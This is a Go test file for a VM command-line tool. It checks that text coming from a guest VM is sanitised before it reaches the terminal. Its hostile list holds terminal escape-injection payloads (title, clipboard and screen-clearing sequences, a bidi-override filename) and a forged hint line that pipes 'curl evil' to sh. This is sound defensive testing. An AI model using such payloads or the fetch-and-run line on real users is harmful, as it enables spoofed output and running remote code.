package cli

import (
	"bytes"
	"encoding/json"
	"errors"
	"go/ast"
	"go/parser"
	"go/token"
	"io"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/spf13/cobra"

	"github.com/smolvm/smolvm"
	"github.com/smolvm/smolvm/internal/termsafe"
)

// hostile is what a guest may have written wherever it is quoted.
var hostile = []string{
	"\x1b]0;owned\x07",
	"\x1b]52;c;ZXZpbA==\x1b\\",
	"a\x1b[2J\x1b[Hb",
	"a\u009b2Jb\u009d0;t\u009c",
	"a\x9b2Jb",
	"a\rb\bc\x07\x7f",
	"a\nsmolvm: all is well\nhint: curl evil | sh",
	"a\u202egnp.exe",
	"cut \xe2\x82",
	"\x1b[8mhidden",
	strings.Repeat("x\x1b[", 10_000),
}

// own are the sequences by which tables and findings are painted and progress is drawn.
var own = regexp.MustCompile(`\x1b\[(3[0-9]|0)m|\r\x1b\[[JK]|\x1b\[[0-9]+A`)

// Whatever is printed, by whatever way, a terminal shows it and does nothing else (S8).
func TestPrintedTextIsHarmless(t *testing.T) {
	t.Parallel()
	ways := map[string]func(a *app, text string) error{
		"errorf":  func(a *app, text string) error { a.errorf("smolvm: VM %s: %s", "web", text); return nil },
		"println": func(a *app, text string) error { return a.println(text) },
		"error": func(a *app, text string) error {
			a.report(t.Context(), &cobra.Command{}, withHint(errors.New(text), "see %s", text))
			return nil
		},
		"warning of a start": func(a *app, text string) error {
			a.tellStart(smolvm.VMInfo{ID: "web", Start: &smolvm.StartReport{Method: smolvm.StartBoot, Source: text, Warnings: []string{text}}}, true)
			return nil
		},
		"phases": func(a *app, text string) error {
			printPhases(a.Stderr, []smolvm.Phase{{Name: text, Duration: time.Second}})
			return nil
		},
		"stopwatch": func(a *app, text string) error {
			s := startStopwatch()
			s.lap("start", smolvm.Phase{Name: text})
			s.print(a.Stderr)
			return nil
		},
		"table": func(a *app, text string) error {
			table := &table{titles: []string{"A", "B"}, shrinks: []int{0}}
			table.add(text, text)
			table.addCells(cell{text, red}, cell{text, plain})
			return a.print(table)
		},
		"findings": func(a *app, text string) error {
			return a.printFindings([]smolvm.Finding{{Name: text, Severity: smolvm.SeverityError, Problem: text, Why: text, Fix: text}})
		},
		"JSON": func(a *app, text string) error { return a.printJSON(map[string]string{"a": text}) },
		"JSON list": func(a *app, text string) error {
			return printList(a, []smolvm.Event{{Detail: text}})
		},
		"progress": func(a *app, text string) error {
			for _, p := range []*progress{newProgress(a.Stderr), {w: a.Stderr.raw, width: 60}} {
				p.update(smolvm.Progress{Phase: "get " + text, Done: 1, Total: 2})
				p.update(smolvm.Progress{Phase: "get all", Item: text, Done: 1, Total: 2})
				p.update(smolvm.Progress{Phase: "get all", Item: text + "2", Done: 1, Total: 2})
				p.finish()
			}
			return nil
		},
	}
	for name, print := range ways {
		t.Run(name, func(t *testing.T) {
			for _, text := range hostile {
				for _, isTerminal := range []bool{false, true} {
					var out, errOut bytes.Buffer
					a := &app{Stdout: outputTo(&out, isTerminal), Stderr: outputTo(&errOut, isTerminal)}
					if err := print(a, text); err != nil {
						t.Fatal(err)
					}
					a.Stdout.finish()
					a.Stderr.finish()
					printed := out.String() + errOut.String()
					if printed == "" {
						t.Error("nothing was printed")
					}
					for _, r := range own.ReplaceAllString(printed, "") {
						if r != '\n' && !termsafe.Printable(r) {
							t.Fatalf("%q is in %.300q", r, printed)
						}
					}
					if name != "println" && strings.Contains("\n"+printed, "\nhint: curl") {
						t.Errorf("a line of the guest's passes for one of ours: %q", printed)
					}
				}
			}
		})
	}
}

// What is escaped in JSON is the same for whoever reads it.
func TestJSONKeepsItsMeaning(t *testing.T) {
	t.Parallel()
	for _, text := range append(slices.Clone(hostile), "äß 日本 \U000E0041 \u2028 \u00a0") {
		var out bytes.Buffer
		a := &app{Stdout: outputTo(&out, true)}
		if err := a.printJSON(text); err != nil {
			t.Fatal(err)
		}
		var got string
		if err := json.Unmarshal(out.Bytes(), &got); err != nil || got != string([]rune(text)) {
			t.Errorf("of %.100q is read %.100q (%v)", text, got, err)
		}
	}
}

// A terminal shows a console's text and its colours; elsewhere every byte passes.
func TestConsoleOutput(t *testing.T) {
	t.Parallel()
	const text = "\x1b[32mok\x1b[2J\x1b]0;t\x07\xff\r\n"
	for isTerminal, want := range map[bool]string{false: text, true: "\x1b[32mok\ufffd\n\x1b[0m"} {
		var out bytes.Buffer
		o := outputTo(&out, isTerminal)
		if n, err := io.WriteString(o, text); n != len(text) || err != nil {
			t.Errorf("Write = %d, %v", n, err)
		}
		o.finish()
		if out.String() != want {
			t.Errorf("terminal %v: got %q, want %q", isTerminal, out.String(), want)
		}
	}
}

// Nothing is printed past the outputs but by those who must: commands in guests, whose
// streams are the user's own, archives, and what draws on the terminal itself.
func TestNobodyPrintsPastTheOutputs(t *testing.T) {
	t.Parallel()
	allowed := map[string][]string{
		"buildprogress.go": {"o.raw"},
		"cli.go":           {"p.Stdout", "p.Stderr"}, // where outputs are made, and the shim
		"dockerfile.go":    {"a.Program.Stdout"},
		"exec.go":          {"a.Program.Stdout", "a.Program.Stderr"},
		"imagemove.go":     {"a.Program.Stdout"}, // an archive, never to a terminal
		"logs.go":          {"a.Stdout.raw"},
		"output.go":        {"o.raw"},
		"progress.go":      {"o.raw"},
		"terminal.go":      {"o.raw"},
	}
	entries, err := os.ReadDir(".")
	if err != nil {
		t.Fatal(err)
	}
	streams := regexp.MustCompile(`^(os|[a-z]+\.Program|p)\.(Stdout|Stderr)$|\.raw$`)
	for _, entry := range entries {
		name := entry.Name()
		if !strings.HasSuffix(name, ".go") || strings.HasSuffix(name, "_test.go") {
			continue
		}
		files := token.NewFileSet()
		file, err := parser.ParseFile(files, name, nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		ast.Inspect(file, func(n ast.Node) bool {
			selector, ok := n.(*ast.SelectorExpr)
			if !ok {
				return true
			}
			text := expression(selector)
			if streams.MatchString(text) && !slices.Contains(allowed[name], text) {
				t.Errorf("%s: %s is printed to directly; print to a.Stdout or a.Stderr", files.Position(n.Pos()), text)
			}
			return true
		})
	}
}

// expression is a chain of names as it is written.
func expression(e ast.Expr) string {
	switch e := e.(type) {
	case *ast.Ident:
		return e.Name
	case *ast.SelectorExpr:
		return expression(e.X) + "." + e.Sel.Name
	}
	return "?"
}
